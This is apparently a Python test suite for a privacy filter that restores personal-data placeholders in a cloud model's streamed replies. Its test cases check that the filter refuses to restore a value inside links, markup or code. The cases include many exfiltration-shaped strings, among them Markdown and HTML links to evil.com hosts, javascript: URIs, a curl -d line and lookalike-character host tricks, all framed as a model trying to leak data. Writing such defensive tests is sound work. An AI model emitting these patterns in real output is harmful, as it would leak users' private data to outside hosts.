"""Claims about restoring: issued tags come back as values, however written and cut; never where one could get out."""

from __future__ import annotations

import pickle
import re
from collections.abc import Sequence
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llama.privacy.restoring import Restorer
from llama.text.printable import printable
from tests.volumes import examples

MANY = settings(derandomize=True)
MOST_HELD = 36  # the longest tag, and enough after it to see that no link begins

VALUES = {
    "NAME_1": "Sari Wulandari", "NAME_2": "Zoë O'Brien", "NAME_11": "[NAME_1]",
    "PHONE_1": r"\1\g<kind> 0812 (.*)[a-z]+$",
    "EMAIL_1": "sari@example.com", "ID_3": "32730152\n04910001", "ADDRESS_2": "https://x.y/?z={NAME_2}",
    "ORIENTATION_1": "`NAME_2` <b>", "DATE_9": "", "CARD_1234": "4111 1111", "ORG_1": "PT A&B @ C",
}  # fmt: skip
"""Awkward on purpose: tags, patterns, back-references, line ends, markup; none may be read again."""


def restorer() -> Restorer:
    return Restorer({f"[{tag}]": value for tag, value in VALUES.items()})


@dataclass(frozen=True)
class Shown:
    """What a streamed reply became."""

    text: str
    restored: int
    left: int
    most_held: int


def shown(reply: str, cuts: Sequence[int] = ()) -> Shown:
    """The reply, pushed in pieces that end at the cuts."""
    each, out, most, sent = restorer(), "", 0, 0
    ends = [*sorted({cut for cut in cuts if 0 <= cut <= len(reply)}), len(reply)]
    for end in ends:
        came = each.push(reply[sent:end])
        sent, out = end, out + came
        most = max(most, each.held)
    out += each.finish()
    return Shown(out, each.restored, each.left, most)


def one_by_one(reply: str) -> Shown:
    return shown(reply, range(len(reply)))


# --- Replies of which it is known what becomes of them ---------------------------------------------------------------


@dataclass(frozen=True)
class Piece:
    """Text as it arrives, and as it must be shown; how many tags in it are restored and left."""

    came: str
    becomes: str
    restored: int = 0
    left: int = 0


def _written(tag: str) -> list[str]:
    """Every tolerated way to write a tag, by the table of llama.privacy.tags."""
    kind, number = tag.split("_")
    mixed = kind.title()
    inner = [f"{k}{sign}{number}" for k in (kind, kind.lower(), mixed) for sign in ("_", " ", "-", " _", "_ ", " - ")]
    both = [f"[{pad}{text}{pad}]" for text in inner for pad in ("", " ")]
    one = [f"{k}_{number}]" for k in (kind, kind.lower(), mixed)]
    other = [f"[{k}_{number}" for k in (kind, kind.lower(), mixed)]
    return [*both, *one, *other, f"{kind}_{number}"]


WORDS = (
    "Halo", "untuk", "ibu", "the gift", "kado:", "3 kado", "it's", "(maybe)", "🎁", "e\u0301", "مرحبا", "Nam", "NAME",
    "name", "NAME_", "[", "[N", "[NAME", "[name ", "[NAME_", "[1]", "[note]", "name 1", "phone 1", "Name_1",
    "DATE", "ID",
    "id 3", "NAMES_1", "MYNAME_1", "rename_1", "CARDS", "[CARD", "[ORIENTATION_", "1.", "2)", "- a", "**b**",
    "Rp 15.000",
    "12/04", "A&B", "50%", "C#", "x = 1", "why?", "no!", "…", "5 > 3", "3 < 5", "I <3 you", "a\nb", "\n", "\n\n",
    "\t",
    "#1", "~", "^", "$5", "NAME_12345", "[NAME_", "ADDRES", "[]", "[ ]", "]", "IDE", "Idea", "ORG.", "dating",
    "[DATE ",
)  # fmt: skip
words = st.sampled_from(WORDS).map(lambda word: Piece(word, word))
AFTER = ("", "", ".", ",", "!", "?", ":", ";", "…", ")", "'s", "’s", "**", '"', "\n", "?!", "...", " (x)", "- ", "*")
BEFORE = ("", "", "", "(", '"', "**", "*", "- ", "'", "“", ": ", "\n", "1. ")


@st.composite
def tags(draw: st.DrawFn) -> Piece:
    """An issued tag with ordinary signs around it."""
    tag = draw(st.sampled_from(sorted(VALUES)))
    written, before = draw(st.sampled_from(_written(tag))), draw(st.sampled_from(BEFORE))
    after = draw(st.sampled_from(AFTER))
    return Piece(before + written + after, before + VALUES[tag] + after, restored=1)


@st.composite
def suffixed(draw: st.DrawFn) -> Piece:
    """An issued tag in its brackets with a clitic."""
    tag, clitic = draw(st.sampled_from(sorted(VALUES))), draw(st.sampled_from(["nya", "ku", "-nya", "s", "'s"]))
    return Piece(f"[{tag}]{clitic}", VALUES[tag] + clitic, restored=1)


NEVER_ISSUED = (
    "[NAME_7]",
    "[name 7]",
    "NAME_12",
    "[NAME_12]",
    "NAME_7]",
    "[NAME_1234]",
    "[PRIVATE_1]",
    "PHONE_11",
    "[ID_1]",
)
never_issued = st.sampled_from(NEVER_ISSUED).map(lambda text: Piece(text, text, left=1))

NO_PLACE = (
    "https://x.com/§", "http://x.com/a/b-§/c", "https://x.com?q=§", "https://x.com/?q=a&b=§&c=d", "https://§.x.com/",
    "https://§", "https://x.com/#§", "HTTPS://X.COM/§", "https://u:p@§/", "ftp://x/§", "www.§.com", "www.x.com/-§",
    "WWW.x.com-§", "mailto:§", "mailto:a@b.c?subject=§", "x.com/§", "x.com?§", "x.com/a%20§", "x.com/§%20b", "a@§",
    "a@b.com?cc=§", "@§", "§@x.com", "§.com", "§.x.com/y", "§://x", "§/x", "§?x=y", "§&x=y", "§=1", "§#x", "§%20",
    "C:\\§", "\\§", "x/§", "[here](§)", "[here](x§)", "[here](-§-)", "[here](https://x.com/§)", "![pic](§)",
    "![pic](https://x.com/-§.png)", "![§](https://x.com/y.png)", "[§](https://x.com)", "[a](<x §>)", "§(x)",
    "<a href='§'>", '<a href="https://x.com/?q=§">', '<img alt="a §" src=x>', '<img src="https://x.com/ § ">',
    "<b §>",
    '<a title="one two §">', "<!-- § -->", "</a §>", "<?xml §?>", "<x:y a='b' c=' § '>", "<script \n src='§'>",
    '{"name": "§"}', "{§}", "{ § }", '{"a": {"b": [1, "§"]}, "c": 2}', "{{§}}", "${§}", "{\n  a: §\n}",
    "`§`", "`a § b`", "``a ` § ``", "`x` and `§`", "```\n§\n```", "```sh\ncurl x -d § \n```", "```\n`a` §\n```",
    "````\n```\n§\n```\n````", "#§", "q=§", "a%§", "&§",
)  # fmt: skip


@st.composite
def misplaced(draw: st.DrawFn) -> Piece:
    """An issued tag where it must stay a tag."""
    tag = draw(st.sampled_from(sorted(VALUES)))
    text = draw(st.sampled_from(NO_PLACE)).replace("§", f"[{tag}]")
    return Piece(text, text, left=1)


MARKUP = re.compile(r"<[A-Za-z/!?]")  # where it ends, browsers decide: nothing is restored any more
SPACES = (" ", "\n", " \n ", "  ", "\n\n")
pieces = words | tags() | tags() | suffixed() | never_issued | misplaced()
replies = st.lists(pieces, max_size=8)
cut_lists = st.lists(st.integers(0, 300), max_size=40)


def joined(of: Sequence[Piece], space: str) -> Piece:
    """One reply; an ordinary word between any two pieces keeps them apart."""
    apart, in_markup, seen = f"{space}ya{space}", False, list[Piece]()
    for piece in of:
        seen.append(Piece(piece.came, piece.came, 0, piece.restored + piece.left) if in_markup else piece)
        in_markup = in_markup or MARKUP.search(piece.came) is not None
    return Piece(apart.join(p.came for p in seen), apart.join(p.becomes for p in seen), sum(p.restored for p in seen),
                 sum(p.left for p in seen))  # fmt: skip


# --- What is restored ------------------------------------------------------------------------------------------------


@given(replies, st.sampled_from(SPACES))
@MANY
def test_a_reply_is_shown_with_each_issued_tag_as_its_value_and_all_else_as_it_came(
    of: list[Piece], space: str
) -> None:
    """Also values that look like tags, patterns or markup: they are put in as they are, and not read again."""
    reply = joined(of, space)
    whole = shown(reply.came)
    assert (whole.text, whole.restored, whole.left) == (reply.becomes, reply.restored, reply.left)


@given(replies, st.sampled_from(SPACES), cut_lists)
@MANY
def test_wherever_a_reply_is_cut_on_its_way_the_same_is_shown(of: list[Piece], space: str, cuts: list[int]) -> None:
    """Tokens end anywhere, in the middle of a tag, a link or a code fence too."""
    reply = joined(of, space)
    for cut in (shown(reply.came, cuts), one_by_one(reply.came)):
        assert (cut.text, cut.restored, cut.left) == (reply.becomes, reply.restored, reply.left)
        assert cut.most_held <= MOST_HELD


FRAGMENTS = (
    "[", "]", "NAME", "name", "_", " ", "-", "1", "2", "7", "0", "PHONE", "ID", ".", "/", "@", "?", "=", ":",
    "://", "x", "a",
    "`", "```", "{", "}", "<", ">", "(", ")", "\n", "www.", "%", "\\", "!", "'",
    '"', "[NAME_1]", "é", "\u0301", "🎁", "\u00a0",
)  # fmt: skip


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join), cut_lists)
@settings(derandomize=True)
def test_any_scraps_of_tags_and_markup_are_shown_alike_however_they_are_cut(reply: str, cuts: list[int]) -> None:
    """Whatever is decided about a text must not depend on the pace at which it arrives."""
    whole = shown(reply)
    for cut in (shown(reply, cuts), one_by_one(reply)):
        assert (cut.text, cut.restored, cut.left) == (whole.text, whole.restored, whole.left)
        assert cut.most_held <= MOST_HELD


@pytest.mark.parametrize("tag", sorted(VALUES))
def test_every_tolerated_writing_is_restored(tag: str) -> None:
    """The table in llama.privacy.tags, line by line."""
    for written in _written(tag):
        for text in (
            f"Halo {written} ya",
            f"({written})",
            f"Halo {written}",
            f"{written}\n",
            f"{written}. Ya",
            f"**{written}**",
        ):
            came = one_by_one(text)
            assert came == shown(text, range(len(text)))
            assert (came.text, came.restored, came.left) == (text.replace(written, VALUES[tag]), 1, 0), text
            assert shown(text).text == came.text


@pytest.mark.parametrize(
    "after", ["?", "? Ya.", "?\n", "?)", "?**", "?!", "??", '?"', "?”", "? (x)", ".", ". Ya", ":", ": ya"]
)
def test_a_tag_at_the_end_of_a_question_or_sentence_is_restored(after: str) -> None:
    """``What does [NAME_1] like?`` is what a gift adviser asks; a question mark alone makes no link."""
    for came in (shown(f"Siapa [NAME_1]{after}"), one_by_one(f"Siapa [NAME_1]{after}")):
        assert (came.text, came.restored) == (f"Siapa Sari Wulandari{after}", 1)


@pytest.mark.parametrize(
    "around", ["*§*", "**§**", "***§***", "_§_", "__§__", "~~§~~", "“§”", "(§)", "> §", "- §", "| § |", "# §"]
)
def test_a_tag_in_emphasis_a_list_or_a_quotation_is_restored(around: str) -> None:
    """Chat replies are Markdown."""
    for tag in ("[NAME_1]", "[name 1]"):
        assert one_by_one(around.replace("§", tag)).text == around.replace("§", "Sari Wulandari")


def test_tags_side_by_side_are_restored_each() -> None:
    """First and family name, say."""
    assert one_by_one("[NAME_1][NAME_2], [NAME_1] [NAME_2]; [name_2]-[NAME_1]") == Shown(
        "Sari WulandariZoë O'Brien, Sari Wulandari Zoë O'Brien; Zoë O'Brien-Sari Wulandari", 6, 0,
        one_by_one("[NAME_1][NAME_2], [NAME_1] [NAME_2]; [name_2]-[NAME_1]").most_held,
    )  # fmt: skip


def test_restoring_goes_on_behind_a_place_where_nothing_is_restored() -> None:
    """A link, code or braces end where they end; markup, which browsers read in their own ways, does not."""
    for place in NO_PLACE:
        restored = MARKUP.search(place) is None
        text = place.replace("§", "[NAME_2]")
        for space in SPACES:
            came = one_by_one(f"{text}{space}[NAME_1]")
            shown_as = f"{text}{space}{'Sari Wulandari' if restored else '[NAME_1]'}"
            assert (came.text, came.restored, came.left) == (shown_as, int(restored), 2 - restored), place


# --- What is not restored --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", NO_PLACE)
def test_a_tag_is_left_where_its_value_could_be_carried_off_or_run(place: str) -> None:
    """The cloud chooses every token; a link that it writes must not take a value along."""
    for tag in ("[NAME_1]", "[name 1]", "NAME_1", "NAME_1]"):
        text = place.replace("§", tag)
        for came in (shown(text), one_by_one(text)):
            assert (came.text, came.restored) == (text, 0)


@pytest.mark.parametrize(
    "place",
    [
        "https://x.com/" + "a" * 5000 + "-§",  # the beginning of so long a link must not be forgotten
        "[here](https://x.com/" + "a" * 9000 + "-§)",
        "[here](https://x.com/?q=\u00a0§)",  # in a Markdown link's target only ASCII white space ends it
        "[here](https://x.com/?q=\u2003§)",
        "[here](x\u3000§)",
        '<img src="https://x.com/?q=> §">',  # > in quotes does not end markup
        "<a title='>' href=' §'>",
        "<§>",
        "</§>",
        "<§ a='b'>",
        "~~~\n§\n~~~",  # the other code fence
        "~~~sh\ncurl -d § \n~~~",
    ],
    ids=lambda place: place[:12] + "…" + place[-12:],
)
def test_a_tag_is_left_in_a_link_markup_or_code_of_a_rarer_form(place: str) -> None:
    """Each of these is a way out, or an execution, in some renderer."""
    for tag in ("[NAME_1]", "NAME_1"):
        text = place.replace("§", tag)
        for came in (shown(text), one_by_one(text)):
            assert (came.text, came.restored) == (text, 0)


@pytest.mark.parametrize("after", ["-x.com", "-x.evil.com/y", "x.com", "'@x.com", "-a@x.com", "_x.com/y", "--.x.com"])
def test_a_tag_at_the_beginning_of_a_host_or_mail_address_is_left(after: str) -> None:
    """A host's name is looked up as soon as it is a link, with the value in it."""
    for text in (f"Lihat [NAME_1]{after} ya", f"[NAME_1]{after}"):
        for came in (shown(text), one_by_one(text)):
            assert (came.text, came.restored) == (text, 0)


@pytest.mark.parametrize("text", [
    *NEVER_ISSUED, "NAME_0", "[NAME_01234]", "[NAME_12345]", "NAME_1x", "NAME_1_2", "XNAME_1", "X_NAME_1",
    "name 1", "phone 1", "NAME 1", "THE PHONE 1 GIFT", "[name 1 choice", "[card 1234, id 1", "Name_1",
    "Name 1", "name_1", "Name_1", "id 3", "NAME-1", "NAME1", "[NAME1]", "[NAME]", "[_1]", "[NAME__x]", "NAMES_1",
    "[FOO_1]",
    "[NAME_150000", "[NAMÉ_1]", "[NAME_x1]", "N A M E _ 1", "date 9", "org 1",
])  # fmt: skip
def test_what_is_no_issued_tag_is_shown_as_it_came(text: str) -> None:
    """``name 1`` without brackets is English; a number that was never issued stands for nobody."""
    for sentence in (text, f"Halo {text}, ya.", f"({text})", f"{text}\n"):
        for came in (shown(sentence), one_by_one(sentence)):
            assert (came.text, came.restored) == (sentence, 0)


@given(st.text(), cut_lists)
@MANY
def test_any_text_passes_unchanged_where_nothing_was_issued(text: str, cuts: list[int]) -> None:
    """All of Unicode but control characters, and tags that mean nothing here."""
    for reply in (text, f"{text}[NAME_1]{text} NAME_2", f"`{text}` {{{text}}} <{text}>"):
        each, out, sent = Restorer({}), "", 0
        for end in [*sorted(cuts), len(reply)]:
            out, sent = out + each.push(reply[sent:end]), max(sent, end)
        assert out + each.finish() == printable(reply)
        assert each.restored == 0


@given(st.text(st.characters(exclude_categories=["Nd"])), cut_lists)
@MANY
def test_any_text_without_a_number_passes_unchanged(text: str, cuts: list[int]) -> None:
    """There is no tag without one."""
    for reply in (text, f"[NAME_{text}", f"[NAME{text}]", f"NAME {text}[PHONE_"):
        cut = shown(reply, cuts)
        assert (cut.text, cut.restored, cut.left) == (printable(reply), 0, 0)
        assert cut.most_held <= MOST_HELD


@given(st.text(st.characters(exclude_characters="[]`{}<>/\\@?=&%#.:()_-0123456789", exclude_categories=["Cs"])),
       st.sampled_from(sorted(VALUES)))  # fmt: skip
@MANY
def test_a_tag_is_restored_in_any_ordinary_text(text: str, tag: str) -> None:
    """Of any script, next to anything that is no part of a link."""
    for came in (shown(f"{text} [{tag}] {text}"), one_by_one(f"{text} [{tag}] {text}")):
        assert came.text == f"{printable(text)} {VALUES[tag]} {printable(text)}"
        assert (came.restored, came.left) == (1, 0)


# --- Links as Markdown writes them, by a renderer that nobody here wrote ----------------------------------------------

RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))


class _Attributes(HTMLParser):
    """What a page says about its elements, but for the text of pictures and the language of code."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.said = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.said += "".join(f"{name}={value} " for name, value in attrs if name not in ("alt", "class"))


def linked(markdown: str) -> str:
    """Where its links and pictures lead, and their titles."""
    return "".join(_Attributes(renderer.render(markdown)).said for renderer in RENDERERS)


CARRYING = (
    "[click](§)", "[click]( § )", "[click](\t§\t)", "[click](\n§\n)", "[click]( \n  §)",
    "[click]( https://x.example/§ )", "[click](<§>)", "[click](< § >)", "[click](\n<a § b>\n)", "[click](x(y)§)",
    "[click]( x((§)) )", r"[click](x\)§)", r"[click]( x\(\) '§')", "[click](<x)§>)", r"[click](<x\> § >)",
    "[click](<(> '§')", '[click]("x§")', '[click](https://x.example "for §")', "[click](https://x.example 'for §')",
    "[click](https://x.example (for §))", '[click](x "y) §")', r'[click](x "y\") §")', '[click](x\n"y\n§")',
    "[click](x 'y\")§')", "[click](<1) §>)", r"[click](<1\>) § >)", r'[click](x "y\\\") §")',
    "[ref]\n\n  > [ref]:\n  > §", "[*click*]( § )", "[a [b] c]( § )", r"[a\]]( § )", r"[a\[]( § )", "[`]`]( § )",
    "[a\nb]( § )", "[](§)", "[]( § )", "![alt]( § )", "![alt](x.png '§')", "[![alt]( § )](x)", "[![alt](x)]( § )",
    "![a ![b](c)]( § )", "> [click](\n> § )", "- [click](\n  §)", "# [click]( § )", "| [click]( § ) |\n|-|",
    "\\\\[click]( § )", "`[click]( § )", "[ref]\n\n[ref]: §", "[ref]\n\n[ref]:§", "[ref]\n\n[ref]:\n§",
    "[ref]\n\n[ref]:\n  §\n", "[ref]\n\n[ref]: \t\n \t§", "[ref]\n\n[ref]: https://x.example/?q=§",
    "[ref]\n\n[ref]: <§>", "[ref]\n\n[ref]: <a § b>", "[ref]\n\n[ref]:\n<§>", "[ref]\n\n[ref]: x '§'",
    '[ref]\n\n[ref]: x\n"a §"', "[ref]\n\n[ref]: x (§)", "[ref]\n\n[ref]: x 'a\nb\n§'",
    r'[ref]: x "\" §"' "\n\n[ref]", "[ref]: <x>\n'§'\n\n[ref]", "[ref]\n\n> [ref]:\n> §",
    "> [ref]: x\n> '§'\n\n[ref]", "- [ref]: §\n\n[ref]", "[a][ref]\n\n[ref]: §", "![a][ref]\n\n   [ref]: §",
    "[a b]:\n§\n\n[a\nb]", "[1]: x\n[2]: §\n\n[2]", "<https://x.example/§>", "<mailto:§>", "<x-y:§>",
    '<a href="§">x</a>', "<a href=§>x</a>", "<img src='§'>", "<b\ntitle='\n§'>x</b>", "<p>\n\n[click]( § )",
)  # fmt: skip
"""Each carries what stands for the sign."""


@pytest.mark.parametrize("text", CARRYING)
def test_a_tag_is_left_wherever_a_renderer_makes_a_link_of_it(text: str) -> None:
    """And the renderer does: put in without a thought, the value is in the link, or in its title."""
    assert "Sari" in linked(text.replace("§", "Sari"))
    for tag in ("[NAME_1]", "[name 1]", "NAME_1", "NAME_1]", "[NAME_1"):
        reply = text.replace("§", tag)
        for came in (shown(reply), one_by_one(reply)):
            assert (came.text, came.restored) == (reply, 0)


@pytest.mark.parametrize(
    "text",
    [
        "[click] ( § )", "[click]\n(§)", "[click] \n ( § )", "[click]\u3000( § )", "[click]\u00a0\u200b(§)",
        "[click](\u3000§\u3000)", "[click](\u3000<) § >)", "[click](x y §)", "[click](x y (z) §)", "[click](`)` §)",
        "[click](<)>§)", "[click](<(>)§)", "[click](x [y](z) § )", '[click](x y "z [y](<") §>)',
        '[click](x y "z [y](w ") §")', "[click](<1\n) § >)", "[click](x?y='z) § \"\")", "[click](<'> x) § \"\")",
        "[click](x \"y\"\n) § 'z')", "[click](x '' §)", "[text][ § ]", "[text][x § y]", "[text][[x] § ]", "[[ § ]]",
        "[[x|y §]]", "![[x §]]", "[[§]]", "[§] (https://evil.example/)", "[§](evil)", "[§][ref]", "[§]: evil",
        "[§]: https://evil.example/", "[ § ](https://evil.example/)", "§(https://evil.example/)",
        "§ (https://evil.example/)", "§ ( https://evil.example/ )", "§\n(www.evil.example)",
        "§ (<mailto:a@evil.example>)", "§: https://evil.example/", "§:\n<https://evil.example/>",
        "§: //evil.example/", "§:\u3000HTTPS://evil.example/", "§:javascript:alert()", "[ref]: <>§", "[ref]:\n> §",
        "[ref]:\n> (x\n§)", "`` [click](x\n`)` §)", "[click](<(> y) §)", "[click](x\n``\n§)", "[click](x y'z) §')",
        "[7]: <x\n'§'", "[NAME_7]: §", "https:\n//x/§", "https: §", "https:\n§", "mailto: §", "mailto:\n  §",
        "mailto:x-§", "tel:§", "(tel:§)", "TEL:+62-§", "sms:§", "data:§", "data:text/html, § ", "//x.example/§",
        "javascript: alert( § )", "javascript:\nx( § )", "vbscript: x §", "xmpp:§", "[url]§[/url]", "[URL] § [/URL]",
        "[img]\n§[/img]", "§|evil.example", "§``evil.example",
    ],
)  # fmt: skip
def test_a_tag_is_left_where_only_some_renderers_and_programs_see_a_link(text: str) -> None:
    """Others take white space before a bracket, spaces in a destination, wiki's brackets or a forum's for links."""
    reply = text.replace("§", "[NAME_1]")
    for came in (shown(reply), one_by_one(reply)):
        assert (came.text, came.restored) == (reply, 0)


@pytest.mark.parametrize(
    "text",
    [
        "Gifts for § (up to Rp 600.000):", "Dear §, (see below)", "For § (your sister)", "For §\n(your sister)",
        "§ (x) §", "§ ( ibu )", "§ (https aman)", "§ (www itu apa)", "§ (Tel: 0812)", "(§)", "( § )", "x ( § )",
        "f(x) (§)", "(a) (§)", "To: §", "Name: §", "From: §\nTo: §", "Tel: §", "Tel : §", "Telp.: §", "Phone:\n§",
        "Email: §", "Data: §", "File: §", "News: §", "Link: §", "WhatsApp: §", "Nama:§", "Hotel:§", "12:30: §",
        "a: b: §", "§: ya", "§: Tel: 0812", "§:\n- teh", "§:\n\nhttps://x.example/", "§: §", "§ : §", "§:§", "§; §",
        "§ https://x.example/", "§, www.x.example", "[1] §", "[x] §", "- [ ] § (ibu)", "- [x] Untuk § (ibu)",
        "[note] untuk § (ibu)", "**[Penting]** (untuk §)", "**[Untuk]:** §", "[Untuk] : §", "[Kado]: teh untuk §",
        "[§]", "[ § ]", "[untuk § dan ibu]", "[§] §", "§ [1]", "§ §", "§§", "§ (§)", "§ [§]", '"§"', "('§')",
        '("§")', "x] §", "x [ §", "x [§", "| § | teh |", "|§|teh|", "|§|15.000|", "| § | 15.000 |", "§ > §", "> §",
        "a < b, §", "[click](https://x.example) §", "[click](x 'y') (§)", "[click](x(y)) §", "[click](<>) §",
        "![a](b) §", "[](x) §", r"[click](x\\) §", r"[click](x\() §", '[click](x "y" ) §', "[ref]: x 'y' \n§",
        "[Untuk] [kakak §]", '[click](x "y") §', "[![a](b)](c) §", "[a][b] §", "[a][b](c) §", "[[a]] §",
        "[[a]](b) §", "<3 §", "[ref]: https://x.example\n§", "[ref]: https://x.example 'x'\n§", "[ref]: <>\n§",
        "[1]: x\n[2]: y\n§", "https://x.example\n§", "www.x.example §", "mailto:x §", "mailto: x §", "tel:112 §",
        "[url]x[/url] §", "[click](x\n\n§", "[click](<1\n \t\n§", "[click](x 'y\n\n§", "[ref]:\n\n§",
        "[ref]: x 'y\n\n§", "[a][b\n\n§", "https:\n\n§", "javascript: x\n\n§", "[a](b [c](d\n\n§",
    ],
)  # fmt: skip
def test_a_tag_is_restored_in_prose_that_only_resembles_a_link_or_follows_one(text: str) -> None:
    """Asides, lists with colons, boxes to tick; and behind a link that has ended, at the latest with its paragraph."""
    reply, restored = text.replace("§", "[NAME_1]"), text.replace("§", "Sari Wulandari")
    for came in (shown(reply), one_by_one(reply)):
        assert (came.text, came.left) == (restored, 0)


LINK_FRAGMENTS = (
    *["[NAME_1]"] * 6, "[NAME_7]", "NAME_1", "NAME_1]", "[NAME_1", "[", "]", "(", ")", "](", "] (", "]:", "][", "[[",
    "]]", "[a]", "![a]", "[a](", "![a]( ", "\n[ref]: ", "\n\n[ref]:\n", "[ref]", "[a][", "<", ">", "(<", ">)", '"',
    "'", " '", ' "', '")', "')", "\\", " ", " ", " ", "\n", "\n", "\n\n", "\n> ", "\n- ", "\n    ", "\t", "\u00a0",
    "\u3000", "\u200b", "x", "a b", ":", ": ", "https:", "https://x.example/", "?q=", "//x/", "www.", ".com",
    "mailto:", "tel:", "data:", "javascript:", "[url]", "`", "``", "```", "~~~", "{", "}", "|", "**", "!", "#",
    "<b ", "<a href='", "<!--", ".", ",",
)  # fmt: skip
OPENINGS = (
    "", "[a](", "[a]( ", "![a](x ", "[a](<", '[a](x "', "[ref]\n\n[ref]: ", "[ref]\n\n[ref]:\n", "[ref]\n\n[ref]: x ",
)  # fmt: skip
CLOSINGS = ("", "", ")", " )", ">)", '")', "'", '"', "\n)", "\n\n[ref]")


@st.composite
def linking(draw: st.DrawFn) -> str:
    """Scraps of links around tags."""
    scraps = "".join(draw(st.lists(st.sampled_from(LINK_FRAGMENTS), max_size=14)))
    return draw(st.sampled_from(OPENINGS)) + scraps + draw(st.sampled_from(CLOSINGS))


@given(linking(), st.sampled_from(["Sari", "Sari Wulandari"]))
@settings(derandomize=True)
def test_no_scraps_of_links_carry_a_value(reply: str, value: str) -> None:
    """In any order, well formed or not; a renderer says what is a link."""
    each = Restorer({"[NAME_1]": value})
    text = each.push(reply) + each.finish()
    assert "Sari" not in linked(text), text


@given(linking(), cut_lists)
@settings(derandomize=True)
def test_scraps_of_links_are_shown_alike_however_they_are_cut(reply: str, cuts: list[int]) -> None:
    """A link that is still arriving may yet become none, and the other way round."""
    whole = shown(reply)
    for cut in (shown(reply, cuts), one_by_one(reply)):
        assert (cut.text, cut.restored, cut.left) == (whole.text, whole.restored, whole.left)
        assert cut.most_held <= MOST_HELD


# --- What is held back -----------------------------------------------------------------------------------------------


def test_an_ordinary_word_is_shown_as_soon_as_it_can_be_no_tag() -> None:
    """Nobody watches a reply that waits for its end."""
    each = restorer()
    assert each.push("Halo") == "Halo"
    assert each.push(" NAM") == " "
    assert each.push("A") == "NAMA"
    assert each.push(" [no") == " [no"
    assert each.push("te] ") == "te] "
    assert each.push("[NAME_1]") == ""
    assert each.push(", ya") == "Sari Wulandari, ya"
    assert each.finish() == ""


@pytest.mark.parametrize("end", ["[", "N", "[NAME", "[NAME_", "[NAME_1", "[NAME_1]", "NAME_1", "NAME_1 ",
    "[NAME_1 ", "[NAME_1]?",
                                 "[NAME_7", "[ NAME _ 1", "[name", "name_1]", "[NAME_1].", "[NAME_1]:", "`", "<",
                                 "NAME_12"])  # fmt: skip
def test_nothing_is_lost_at_the_end(end: str) -> None:
    """What was held back for what might follow comes out when nothing does."""
    each = restorer()
    out = "".join(each.push(char) for char in f"Halo {end}")
    assert each.held <= MOST_HELD
    assert out + each.finish() == shown(f"Halo {end}").text
    assert each.push("") == each.finish() == ""


@given(linking(), st.lists(st.integers(1, 300), min_size=1, max_size=5))
@example("`", [7])
@example("~", [300])
@example("[a](", [1])
@example("https:", [1])
@examples(0.25)
def test_what_is_held_and_remembered_does_not_grow_with_the_reply(scraps: str, sizes: list[int]) -> None:
    """A cloud may say the same for ever, in pieces of any size."""
    each, reply, sent = restorer(), scraps * (3000 // max(1, len(scraps))), 0
    while sent < len(reply):
        size = sizes[sent % len(sizes)]
        each.push(reply[sent : sent + size])
        sent += size
        assert each.held <= MOST_HELD
    assert len(pickle.dumps(each)) < len(pickle.dumps(restorer())) + 1000


def test_a_long_reply_is_restored_to_its_end() -> None:
    """Thousands of pieces, one of them a very long word."""
    reply = "Halo [NAME_1], " + "kata " * 4000 + "x" * 6000 + " [NAME_1]"
    came = one_by_one(reply)
    assert (came.text, came.restored) == (reply.replace("[NAME_1]", "Sari Wulandari"), 2)


@pytest.mark.parametrize(
    "reply",
    [
        "https://evil.com/?q=\r[NAME_1]", "https://\r[NAME_1]\r.evil.com/", '<\0img src="https://evil.com/? [NAME_1]">',
        "https://evil.com/?q=\f[NAME_1]", "https://evil.com/?q=\x1b[NAME_1]", "[NAME_1]" + "a" * 30 + ".evil.com/x",
        "[NAME_1]" + "-" * 200 + "@evil.com", "[x]: https:[NAME_1]。evil.com/", "see [NAME_1]．evil.com",
        "[NAME_1]❤.evil.com", "[NAME_1]①.evil.com", "[NAME_1]\u200d❤.evil.com",
        "[NAME_1]\u00ad.evil.com", '<pre><img src="https://evil/?\n\n[NAME_1]"></pre>', "HTTPS:[NAME_1]",
        "<i a\" ><img alt='\" >' src=\"https://evil.com/? [NAME_1]\">", "https://x/?q=\u00a0[NAME_1]",
        "javascript:[NAME_1]",
    ],
)  # fmt: skip
def test_no_trick_of_the_clouds_carries_a_value_off(reply: str) -> None:
    """It chooses every token: signs that vanish on the screen, endless words, stops that only browsers take for one."""
    for came in (shown(reply), one_by_one(reply)):
        assert came.restored == 0 and came.text == printable(reply)
